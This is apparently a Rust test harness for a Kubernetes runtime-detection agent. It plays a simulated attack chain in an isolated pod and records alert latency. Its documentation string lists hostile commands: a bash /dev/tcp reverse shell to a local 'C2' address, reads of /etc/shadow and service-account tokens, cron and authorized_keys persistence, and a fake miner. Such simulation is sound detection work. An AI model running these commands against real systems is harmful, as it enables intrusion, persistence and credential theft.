//! `cargo xtask simulate`: a kill chain played inside a kubelet-like pod, end to end.
//!
//! Set-up: the test kube-apiserver (`xtask/kube/kube.sh`), a namespace `lanner-sim`
//! with a pod `victim-<n>` bound to the node the agent watches and its status patched
//! with a containerd container id, a cgroup v2 directory laid out as kubelet's systemd
//! driver + containerd lay it out, and two network namespaces of our own joined by a
//! veth pair: the "pod" (`lnr-sim-pod`, 10.231.77.2) and a "C2 host" (`lnr-sim-c2`,
//! 10.231.77.1, listening on 4444 and, as a health-check target, 8080). No other
//! address is contacted.
//!
//! Then `lanner run` (agent service account, pod read RBAC) and each attack step runs
//! in the pod's cgroup and network namespace; its expected alerts (rule, priority,
//! MITRE technique tag, `k8s.pod.name`) are awaited and the detection latency
//! (alert read time − alert `time`) recorded. A benign phase (package-like file
//! activity, health checks, a compile) must raise nothing above Notice.
//!
//! Everything is removed at the end, and at the start if a previous run left it.
use std::{
    ffi::CString,
    fs::File,
    io::{BufRead, BufReader, Read, Write},
    net::TcpListener,
    os::{fd::AsRawFd, unix::process::CommandExt},
    path::{Path, PathBuf},
    process::{Child, Command, Stdio},
    sync::{
        atomic::{AtomicUsize, Ordering},
        mpsc, Arc, Mutex,
    },
    time::{Duration, Instant, SystemTime, UNIX_EPOCH},
};

use anyhow::{bail, Context as _, Result};
use serde_json::Value;

pub(crate) mod agent;
pub(crate) mod chain;
pub(crate) mod env;
mod response;

pub(crate) use agent::*;
use chain::*;
pub(crate) use env::*;

/// The real-cluster tier's table (`cargo xtask cluster test`), appended to docs/simulation.md.
const REAL_CLUSTER: &str = include_str!("simulate/real_cluster.md");

const NS: &str = "lanner-sim";
const NODE: &str = "lanner-sim-node";
const NETNS_POD: &str = "lnr-sim-pod";
const NETNS_C2: &str = "lnr-sim-c2";
const POD_IP: &str = "10.231.77.2";
const C2_IP: &str = "10.231.77.1";
const WORK: &str = "/tmp/lnr-sim";
const STATE: &str = "/tmp/lnr-sim.state";
const CRON_FILE: &str = "/etc/cron.d/lnr-sim";
const SA_DIR: &str = "/run/secrets/kubernetes.io/serviceaccount";
const SA_TOKEN_MARK: &str = "lnr-sim-fake-token";
const RBAC_NAME: &str = "lanner-sim-agent-pods";
const IMAGE: &str = "registry.example/victim:1.0";

const NAMES: Names = Names {
    ns: NS,
    node: NODE,
    netns_pod: NETNS_POD,
    netns_c2: NETNS_C2,
    veth_pod: "lnr-sim-p",
    veth_c2: "lnr-sim-c",
    pod_ip: POD_IP,
    c2_ip: C2_IP,
    c2_extra_ips: &[],
    work: WORK,
    state: STATE,
    rbac: RBAC_NAME,
    pod_prefix: "victim",
    image: IMAGE,
    sa_token_mark: SA_TOKEN_MARK,
};

#[derive(Clone, Copy)]
pub(crate) struct Expect {
    rule: &'static str,
    priority: &'static str,
    technique: &'static str,
    /// When set, the alert's `proc.name` must be this.
    proc_name: Option<&'static str>,
}

const fn ex(rule: &'static str, priority: &'static str, technique: &'static str) -> Expect {
    Expect { rule, priority, technique, proc_name: None }
}

struct Row {
    step: String,
    technique: String,
    rule: String,
    detected: bool,
    latency_ms: Option<f64>,
    note: String,
}

pub(crate) fn now_ns() -> i128 {
    SystemTime::now().duration_since(UNIX_EPOCH).map(|d| d.as_nanos() as i128).unwrap_or(0)
}

/// RFC 3339 (`2026-11-23T13:43:26.123456789Z` or `+hh:mm`) to Unix nanoseconds.
/// Also reads the alerts' `time` for the bench's latency row.
pub(crate) fn parse_rfc3339(s: &str) -> Option<i128> {
    let b = s.as_bytes();
    if b.len() < 20 || b[4] != b'-' || b[7] != b'-' || !(b[10] == b'T' || b[10] == b't' || b[10] == b' ') {
        return None;
    }
    let num = |r: std::ops::Range<usize>| s.get(r)?.parse::<i64>().ok();
    let (y, mo, d) = (num(0..4)?, num(5..7)?, num(8..10)?);
    let (h, mi, se) = (num(11..13)?, num(14..16)?, num(17..19)?);
    let mut i = 19;
    let mut frac: i128 = 0;
    if b.get(i) == Some(&b'.') {
        i += 1;
        let start = i;
        while i < b.len() && b[i].is_ascii_digit() {
            i += 1;
        }
        let digits = &s[start..i];
        let mut f: i128 = digits.get(..digits.len().min(9))?.parse().ok()?;
        for _ in digits.len().min(9)..9 {
            f *= 10;
        }
        frac = f;
    }
    let off_s: i64 = match b.get(i)? {
        b'Z' | b'z' => 0,
        c @ (b'+' | b'-') => {
            let oh = num(i + 1..i + 3)?;
            let om = num(i + 4..i + 6)?;
            let v = oh * 3600 + om * 60;
            if *c == b'+' {
                v
            } else {
                -v
            }
        }
        _ => return None,
    };
    // Days from civil (Howard Hinnant).
    let y2 = if mo <= 2 { y - 1 } else { y };
    let era = if y2 >= 0 { y2 } else { y2 - 399 } / 400;
    let yoe = y2 - era * 400;
    let mp = (mo + 9) % 12;
    let doy = (153 * mp + 2) / 5 + d - 1;
    let doe = yoe * 365 + yoe / 4 - yoe / 100 + doy;
    let days = era * 146097 + doe - 719468;
    let secs = days * 86400 + h * 3600 + mi * 60 + se - off_s;
    Some(secs as i128 * 1_000_000_000 + frac)
}

fn print_table(rows: &[Row]) -> String {
    let mut s = String::from("| step | technique | rule | detected | latency ms |\n|---|---|---|---|---|\n");
    for r in rows {
        let lat = r.latency_ms.map(|l| format!("{l:.1}")).unwrap_or_else(|| "-".into());
        let det = if r.detected { "yes".to_string() } else { format!("**no** {}", r.note) };
        s.push_str(&format!("| {} | {} | {} | {} | {} |\n", r.step, r.technique, r.rule, det, lat));
    }
    s
}

pub fn run() -> Result<()> {
    if !crate::is_root() {
        bail!("simulate needs root (eBPF, cgroups, network namespaces)");
    }
    let bin = crate::lanner_bin();
    if !bin.exists() {
        crate::sh(crate::cargo().args(["build", "--release", "-p", "lanner"]))?;
    }
    let (kube, started_kube) = Kube::up()?;
    cleanup_host(&NAMES, &[CRON_FILE]);
    kube.delete_sim_pods(&NAMES);
    let r = simulate(&kube);
    // Clean up, whatever happened.
    cleanup_host(&NAMES, &[CRON_FILE]);
    kube.delete_sim_pods(&NAMES);
    kube.delete_rbac(&NAMES);
    if started_kube && std::env::var_os("LANNER_KEEP_INFRA").is_none() {
        let _ = crate::sh(Command::new("bash").args(["xtask/kube/kube.sh", "down"]));
    }
    r
}

fn simulate(kube: &Kube) -> Result<()> {
    let mut response_skip_reason: Option<String> = None;
    // --- Kubernetes objects, the pod's cgroup and network namespaces, the C2 host, files.
    apply_base_objects(kube, &NAMES)?;
    setup_netns(&NAMES)?;
    let pod = create_pod(kube, &NAMES)?;
    let pod_name = pod.name.clone();
    start_c2(&NAMES, &[4444], &[8080])?;
    std::fs::create_dir_all(Path::new(WORK).join("home/.ssh"))?;
    std::fs::copy("/bin/true", Path::new(WORK).join("xmrig"))?;
    std::fs::create_dir_all("/etc/cron.d")?;
    ensure_sa_token(&NAMES)?;

    // --- The triage worker, when the binary has one and the agent can feed it.
    let mut triage = match response::start(kube)? {
        Ok(t) => Some(t),
        Err(why) => {
            eprintln!("xtask: no response phase: {why}");
            response_skip_reason = Some(why);
            None
        }
    };
    let extra = triage.as_ref().map(|t| t.agent_args.clone()).unwrap_or_default();
    let watch = match &triage {
        Some(_) => Some(response::PodWatch::start(kube, &pod_name)?),
        None => None,
    };

    // --- The agent.
    let mut agent = Agent::start(kube, NODE, &extra)?;
    let r = (|| -> Result<()> {
        agent.wait_log("lanner ready", Duration::from_secs(90))?;
        let synced = agent.wait_log("pod cache synced", Duration::from_secs(60))?;
        eprintln!("xtask: agent: {synced}");
        play(&agent, &pod, kube, triage.as_mut(), watch.as_ref(), response_skip_reason.as_deref())
    })();
    agent.stop();
    if let Some(t) = triage {
        t.stop();
    }
    if let Some(w) = watch {
        w.stop();
    }
    let _ = kube.kubectl(&["-n", NS, "delete", "networkpolicy", "lanner-quarantine", "--ignore-not-found"], None);
    r
}

fn play(
    agent: &Agent,
    pod: &Pod,
    kube: &Kube,
    triage: Option<&mut response::Triage>,
    watch: Option<&response::PodWatch>,
    skip: Option<&str>,
) -> Result<()> {
    // The container's long-running "main process" (its environ is read in a step).
    let mut main = pod.cmd("sleep", &["600"], None).spawn().context("pod main process")?;
    std::thread::sleep(Duration::from_millis(300));
    let mut rows = Vec::new();
    let mut missed = 0;
    for step in steps(main.id()) {
        let mark = agent.mark();
        (step.run)(pod).with_context(|| format!("step {:?}", step.name))?;
        let deadline = Instant::now() + Duration::from_secs(5);
        let mut found: Vec<Option<(f64, String)>> = vec![None; step.expect.len()];
        let mut notes = vec![String::new(); step.expect.len()];
        loop {
            {
                let alerts = agent.alerts.lock().expect("alerts");
                for (i, e) in step.expect.iter().enumerate() {
                    if found[i].is_some() {
                        continue;
                    }
                    for s in &alerts[mark..] {
                        let a = &s.alert;
                        if a.get("rule").and_then(Value::as_str) != Some(e.rule) {
                            continue;
                        }
                        if let Some(pn) = e.proc_name {
                            if field(a, "proc.name") != pn {
                                continue;
                            }
                        }
                        if field(a, "k8s.pod.name") != pod.name {
                            notes[i] = format!("(k8s.pod.name={:?})", field(a, "k8s.pod.name"));
                            continue;
                        }
                        let prio = a.get("priority").and_then(Value::as_str).unwrap_or("");
                        if !prio.eq_ignore_ascii_case(e.priority) {
                            notes[i] = format!("(priority {prio})");
                            continue;
                        }
                        if !has_tag(a, e.technique) {
                            notes[i] = format!("(no tag {})", e.technique);
                            continue;
                        }
                        let t = a.get("time").and_then(Value::as_str).and_then(parse_rfc3339);
                        let lat = t.map(|t| (s.read_ns - t) as f64 / 1e6).unwrap_or(f64::NAN);
                        found[i] = Some((lat, prio.to_string()));
                        break;
                    }
                }
            }
            if found.iter().all(Option::is_some) || Instant::now() >= deadline {
                break;
            }
            std::thread::sleep(Duration::from_millis(20));
        }
        for (i, e) in step.expect.iter().enumerate() {
            let detected = found[i].is_some();
            if !detected {
                missed += 1;
            }
            rows.push(Row {
                step: step.name.to_string(),
                technique: e.technique.to_string(),
                rule: format!("{} ({})", e.rule, e.priority),
                detected,
                latency_ms: found[i].as_ref().map(|f| f.0),
                note: notes[i].clone(),
            });
        }
    }

    // --- Benign phase: nothing above Notice for this pod.
    std::thread::sleep(Duration::from_millis(1000));
    let mark = agent.mark();
    benign(pod, C2_IP)?;
    std::thread::sleep(Duration::from_secs(3));
    let _ = main.kill();
    let _ = main.wait();
    let noisy: Vec<String> = agent.alerts.lock().expect("alerts")[mark..]
        .iter()
        .filter(|s| is_pod_alert(&s.alert, pod))
        .filter(|s| {
            priority_rank(s.alert.get("priority").and_then(Value::as_str).unwrap_or("")) > priority_rank("notice")
        })
        .map(|s| {
            format!(
                "{} [{}] proc={} fd={}",
                s.alert.get("rule").and_then(Value::as_str).unwrap_or("?"),
                s.alert.get("priority").and_then(Value::as_str).unwrap_or("?"),
                field(&s.alert, "proc.name"),
                field(&s.alert, "fd.name")
            )
        })
        .collect();
    let benign_total =
        agent.alerts.lock().expect("alerts")[mark..].iter().filter(|s| is_pod_alert(&s.alert, pod)).count();

    let lats: Vec<f64> = rows.iter().filter_map(|r| r.latency_ms).filter(|l| l.is_finite()).collect();
    let mut sorted = lats.clone();
    sorted.sort_by(|a, b| a.partial_cmp(b).unwrap_or(std::cmp::Ordering::Equal));
    let median = sorted.get(sorted.len() / 2).copied().unwrap_or(f64::NAN);
    let max = sorted.last().copied().unwrap_or(f64::NAN);
    let detected = rows.iter().filter(|r| r.detected).count();

    let table = print_table(&rows);
    let mut summary = format!(
        "Detected {detected}/{} expected alerts, all carrying `k8s.pod.name={}` (namespace `{NS}`); \
         detection latency median {median:.1} ms, max {max:.1} ms.\n\n",
        rows.len(),
        pod.name
    );
    let c2_bytes = C2_BYTES.load(Ordering::SeqCst);
    summary.push_str(&format!(
        "Traffic stayed between the simulation's own network namespaces: the C2 host ({C2_IP}:4444) received \
         {c2_bytes} byte(s) from the reverse shell, the health-check listener ({C2_IP}:8080) served {} request(s).\n\n",
        HTTP_REQUESTS.load(Ordering::SeqCst)
    ));
    summary.push_str(&format!(
        "Benign phase (package-like file activity, 3 health checks, a `make` build and test run): {benign_total} alert(s) for the pod, {} above Notice{}.\n\n",
        noisy.len(),
        if noisy.is_empty() { String::new() } else { format!(": {}", noisy.join("; ")) }
    ));
    let mut response_failed = None;
    match (triage, watch) {
        (Some(t), Some(w)) => {
            let rep = response::assess(t, w, kube, &pod.name)?;
            summary.push_str(&rep.markdown);
            response_failed = rep.failure;
        }
        _ => summary.push_str(&format!(
            "Response (MTTA/MTTR): **TODO, not run**: {}.\n",
            skip.unwrap_or("the triage worker is not available")
        )),
    }
    println!("\n{table}\n{summary}");

    let date = Command::new("date").args(["-u", "+%Y-%m-%d %H:%M UTC"]).output()?.stdout;
    let kernel = run_quiet("uname", &["-r"]).unwrap_or_default();
    let doc = format!(
        "# Kill-chain simulation\n\n\
         `cargo xtask simulate` (as root) plays an attack chain inside a kubelet-like pod and checks that\n\
         `lanner run` raises the expected alert for every step, enriched with the pod's name, and that a\n\
         benign workload in the same pod raises nothing above Notice.\n\n\
         ## How to run\n\n\
         ```\ncargo build --release -p lanner   # if not built yet\ncargo xtask simulate              # as root\n```\n\n\
         It starts the test API server if needed (`xtask/kube/kube.sh`), creates namespace `{NS}` and pod\n\
         `victim-<n>` (label `app=victim`) bound to node `{NODE}`, patches its status with a containerd\n\
         container id, and builds the matching cgroup under the cgroup2 mount\n\
         (`kubepods.slice/kubepods-besteffort.slice/kubepods-besteffort-pod<uid>.slice/cri-containerd-<id>.scope`).\n\
         Network traffic stays between two network namespaces of its own joined by a veth pair: the pod\n\
         (`{NETNS_POD}`, {POD_IP}) and a C2 host (`{NETNS_C2}`, {C2_IP}, listening on 4444 and 8080).\n\
         Every step's processes join the pod cgroup and network namespace before exec. Latency is the time\n\
         the alert line was read from the agent's stdout minus the alert's `time` (event time).\n\
         Everything is removed at the end (and at the start, if a run was interrupted). The command exits\n\
         non-zero if a step is missed or the benign phase raises anything above Notice.\n\n\
         Steps, as run in the pod: `id`, `uname -a`, `ps -ef` + `cat /proc/1/status`; `sh -i`; `cat /proc/<pid>/environ`\n\
         of the pod's main process (the rule leaves `/proc/self/` alone); `cat /etc/shadow`; `cat` of the service account\n\
         token (a marked fake one is created under `/run/secrets/kubernetes.io/serviceaccount/` when absent, and removed);\n\
         `sh -c 'echo … > /etc/cron.d/lnr-sim'`; `sh -c 'echo … >> <tmp>/.ssh/authorized_keys'`;\n\
         `bash -c 'exec 3<>/dev/tcp/10.231.77.1/4444; echo hi >&3'`; `/bin/true` copied to `<tmp>/xmrig` and run with\n\
         `-o stratum+tcp://pool.example:3333`; `python3 -c 'import os; os.setuid(0)'` as uid 1000. The reverse shell's\n\
         target is private (10/8), so `Shell opened network connection` (public addresses only) is not expected.\n\
         Benign phase: `tar`/`cp` of a dpkg-like tree in a temp dir, `curl` health checks to 10.231.77.1:8080, `make` building a\n\
         hello world with `cc` and running it (`make check`).\n\n\
         Response phase (when the binary has `lanner triage` and `lanner run --triage-addr`): a worker on a unix socket in\n\
         the temp dir (default policy, no LLM, the `lanner-triage` service account and `agent/triage-data/rbac.yaml`),\n\
         the agent pointed at it; the run then requires the pod to be quarantined (label `lanner.io/quarantine=true` seen\n\
         by a watch, NetworkPolicy `lanner-quarantine` in the namespace) and deleted, and reports each incident's\n\
         decision, actions, MTTA and MTTR from the worker's audit file.\n\n\
         ## Latest run\n\n{}, kernel {}.\n\n{table}\n{summary}{REAL_CLUSTER}",
        String::from_utf8_lossy(&date).trim(),
        kernel.trim()
    );
    std::fs::write(crate::root().join("docs/simulation.md"), doc)?;
    eprintln!("xtask: wrote docs/simulation.md");

    if c2_bytes == 0 {
        bail!("the reverse shell never reached the C2 listener (network namespace set-up?)");
    }
    if let Some(f) = response_failed {
        bail!("response phase failed: {f}");
    }
    if missed > 0 || !noisy.is_empty() {
        bail!("simulation failed: {missed} expected alert(s) missed, {} benign alert(s) above Notice", noisy.len());
    }
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn parses_rfc3339() {
        assert_eq!(parse_rfc3339("1970-01-01T00:00:01.5Z"), Some(1_500_000_000));
        assert_eq!(parse_rfc3339("2000-03-01T00:00:00Z"), Some(951_868_800_000_000_000));
        assert_eq!(parse_rfc3339("2000-03-01T01:00:00.000000001+01:00"), Some(951_868_800_000_000_001));
        assert!(parse_rfc3339("garbage").is_none());
        // Alert times as Lanner writes them (the bench's latency row reads these).
        assert_eq!(parse_rfc3339("1970-01-01T00:00:00.000000000Z"), Some(0));
        assert_eq!(parse_rfc3339("2026-11-23T12:00:00.123456789Z"), Some(1_795_435_200_123_456_789));
        assert_eq!(parse_rfc3339("2000-02-29T23:59:59.5Z"), Some(951_868_799_500_000_000));
        assert_eq!(parse_rfc3339("2026-11-23T12:00:00Z"), Some(1_795_435_200_000_000_000));
        assert_eq!(parse_rfc3339("2026-11-23T12:00:00"), None, "no zone");
    }
}
